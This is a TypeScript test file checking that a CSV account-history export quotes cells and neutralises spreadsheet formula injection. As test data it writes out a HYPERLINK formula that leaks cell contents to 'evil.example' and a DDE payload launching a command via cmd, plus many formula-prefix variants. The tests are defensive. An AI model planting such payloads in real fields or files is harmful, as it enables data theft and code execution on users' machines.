import { describe, expect, test } from 'vitest';
import { cell, exportCsv } from '../../commands/export-csv.ts';
import { registerUser } from '../../commands/register-user.ts';
import { registration, startProcess } from '../support/installation.ts';
import { somebodyWithAPast } from '../support/stored-account.ts';
import { temporaryDirectory } from '../support/temporary-directory.ts';

/** A CSV as a spreadsheet reads it (RFC 4180). */
function rowsOf(text: string): string[][] {
  const cells = text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g);
  const rows: string[][] = [[]];
  for (const [, inside = '', end] of cells) {
    rows.at(-1)?.push(inside.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

async function csvOf(...[deps, accountId]: Parameters<typeof exportCsv>): Promise<string> {
  let text = '';
  for await (const piece of exportCsv(deps, accountId)) text += piece;
  return text;
}

describe('a history as CSV', () => {
  test('has one row for each event, with what it says', async () => {
    const { deps, close } = await startProcess({ dir: temporaryDirectory() });
    const { session } = await somebodyWithAPast(deps, 'ann');
    const text = await csvOf(deps, session.accountId);
    expect(text.startsWith('\uFEFF"revision","at"')).toBe(true);
    const [, ...rows] = rowsOf(text);
    expect(rows.map(([revision, , by, event]) => `${revision} ${by} ${event}`)).toEqual([
      '0 self UserRegistered',
      '1 self ProfileChanged',
      '2 self EmailChanged',
      '3 self ProviderLinked',
      '4 self PasswordSet',
    ]);
    expect(rows[2]).toContain('ann@new.example.org');
    expect(rows[3]).toEqual(expect.arrayContaining(['github', 'handle-ann', '192.0.2.7']));
    await close();
  });

  test('holds no formula, whatever a person or a browser calls itself (ASVS 1.2.10)', async () => {
    const { deps, close } = await startProcess({ dir: temporaryDirectory() });
    const evil = '=HYPERLINK("https://evil.example?x="&A1,"more")';
    const answer = await registerUser(deps, {
      ...registration('ann'),
      name: evil,
      from: { ip: '192.0.2.7', userAgent: "@SUM(1)*cmd|' /C calc'!A0" },
    });
    if (!answer.ok) throw new Error('not registered');
    const rows = rowsOf(await csvOf(deps, answer.accountId));
    expect(rows[1]).toContain(`'${evil}`);
    expect(rows.flat().filter((text) => /^[=+\-@]/.test(text))).toEqual([]);
    await close();
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@A1',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\u0000=1',
    '\uff1d1',
    '\uff0b1',
    '\uff0d1',
    '\uff201',
    '\tplain',
  ])('puts an apostrophe before %j', (text) => expect(cell(text)).toBe(`"'${text}"`));

  test('leaves other text as it is, quoted', () => {
    expect(cell('Ann "the one", of\nBath')).toBe('"Ann ""the one"", of\nBath"');
    expect(cell('a=b')).toBe('"a=b"');
    expect(cell('')).toBe('""');
  });
});
